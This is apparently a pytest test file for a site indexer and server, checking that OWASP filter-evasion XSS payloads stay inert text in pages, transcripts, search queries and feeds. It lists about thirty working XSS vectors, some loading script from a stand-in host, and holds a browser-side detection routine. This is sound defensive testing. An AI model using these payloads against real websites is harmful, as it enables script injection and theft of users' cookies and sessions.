"""OWASP filter-evasion payloads in content and in queries never run in a real browser."""

from __future__ import annotations

import urllib.parse
import urllib.request
from pathlib import Path

import pytest
from playwright.sync_api import Browser

from indexer.build import build_index
from tests.conftest import TODAY, running_server
from tests.corpus import FILES, front, write_tree

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//xss.invalid/x.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
    "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040"
    '&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;"
    "&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="http://xss.invalid/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<iframe src=http://xss.invalid/scriptlet.html <",
    "<svg/onload=alert('XSS')>",
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '"><script>alert(1)</script>',
    "'';!--\"<XSS>=&{()}",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>',
    '<object data="javascript:alert(1)"></object>',
    "<style>@import'http://xss.invalid/x.css';</style>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1);">',
    '<video><source onerror="alert(1)">',
]
MARKDOWN = [
    "[click](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    '![img](x" onerror="alert(1))',
    '<http://x.invalid/"onmouseover=alert(1)>',
]

FIND_INJECTED = """() => {
  const found = [];
  for (const el of document.querySelectorAll('*')) {
    for (const attr of el.attributes) {
      if (/^on/i.test(attr.name)) found.push(el.tagName + ' ' + attr.name);
      if (/^\\s*(javascript|data|vbscript):/i.test(attr.value)
          && ['href', 'src', 'action', 'data', 'background', 'formaction'].includes(attr.name))
        found.push(el.tagName + ' ' + attr.name + '=' + attr.value);
    }
  }
  for (const s of document.querySelectorAll('script')) {
    if (!/\\/static\\/(site|trainers)\\.js$/.test(s.src)) found.push('script ' + s.src);
  }
  for (const tag of ['iframe', 'object', 'embed', 'base', 'meta[http-equiv]', 'svg', 'math',
                     'input', 'video', 'style', 'link[href*="xss"]']) {
    for (const area of ['.body', '.transcript', '.hits', '.lead', 'h1', '.docmeta', '.chips']) {
      if (document.querySelector(area + ' ' + tag)) found.push(area + ' ' + tag);
    }
  }
  return found;
}"""


@pytest.fixture(scope="module")
def hostile_server(tmp_path_factory: pytest.TempPathFactory):
    body = "\n\n".join(f"Párrafo {i}: {p}" for i, p in enumerate(PAYLOADS + MARKDOWN))
    files = dict(FILES)
    files["cases/hostil.md"] = (
        front(
            title="'Hostil <script>alert(1)</script> <img src=x onerror=alert(2)>'",
            date="2020",
            countries="[UY]",
            themes="[cultura]",
            summary="'<svg/onload=alert(3)> resumen'",
            city="'<b onmouseover=alert(4)>x</b>'",
        )
        + f"## Título <img src=x onerror=alert(5)>\n\n{body}\n"
    )
    files["webinars/hostil.md"] = (
        front(title="Webinar hostil", date="2021", themes="[cultura]", speakers="[Ana]")
        + "## Transcripción\n\n"
        + "\n\n".join(f"[00:0{i % 10}:{10 + i:02d}] Ana: {p}" for i, p in enumerate(PAYLOADS[:20]))
    )
    root = write_tree(tmp_path_factory.mktemp("hostile"), files)
    index = tmp_path_factory.mktemp("hostile-index")
    report = build_index(root, index, today=TODAY)
    assert "cases/hostil" in report.added
    with running_server(index, index / "serve.log") as (_process, url):
        yield url


def _visit(browser: Browser, url: str) -> tuple[list[str], list[str]]:
    context = browser.new_context()
    page = context.new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.goto(url)
    page.wait_for_load_state("load")
    page.evaluate("""() => {  // onmouseover / onfocus payloads would fire here
      for (const el of document.querySelectorAll('main *')) {
        for (const type of ['mouseover', 'mouseenter', 'focus', 'click']) {
          if (type === 'click' && el.closest('a[href]')) continue;
          el.dispatchEvent(new Event(type, {bubbles: true}));
        }
      }
    }""")
    page.wait_for_timeout(100)
    injected = page.evaluate(FIND_INJECTED)
    context.close()
    return dialogs, injected


def test_payloads_in_content_never_run(browser: Browser, hostile_server: str):
    for path in (
        "/cases/hostil",
        "/webinars/hostil",
        "/?q=hostil",
        "/?q=p%C3%A1rrafo",
        "/?q=&city=%3Cb+onmouseover%3Dalert%284%29%3Ex%3C%2Fb%3E",
    ):
        dialogs, injected = _visit(browser, hostile_server + path)
        assert dialogs == [] and injected == [], path


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_in_queries_never_run(browser: Browser, hostile_server: str, payload: str):
    query = urllib.parse.urlencode({"q": payload})
    dialogs, injected = _visit(browser, f"{hostile_server}/?{query}")
    assert dialogs == [] and injected == []


def test_payload_in_the_document_title_is_text(browser: Browser, hostile_server: str):
    context = browser.new_context()
    page = context.new_page()
    page.goto(hostile_server + "/cases/hostil")
    assert "<script>alert(1)</script>" in page.title()  # shown, as text
    assert "<img src=x onerror=alert(2)>" in page.locator("h1").inner_text()
    context.close()


def test_feed_and_opensearch_escape_the_query(hostile_server: str):
    evil = urllib.parse.quote('<script>alert("x")</script>')
    feed = urllib.request.urlopen(f"{hostile_server}/feed.atom?q={evil}").read().decode()
    assert "<script>" not in feed and "&lt;script&gt;" in feed
    opensearch = urllib.request.urlopen(f"{hostile_server}/opensearch.xml").read().decode()
    assert "<script" not in opensearch


def test_the_transcript_keeps_payloads_as_text(hostile_server: str, tmp_path: Path):
    page = urllib.request.urlopen(hostile_server + "/webinars/hostil").read().decode()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "<svg" not in page.split('id="transcript"')[1]
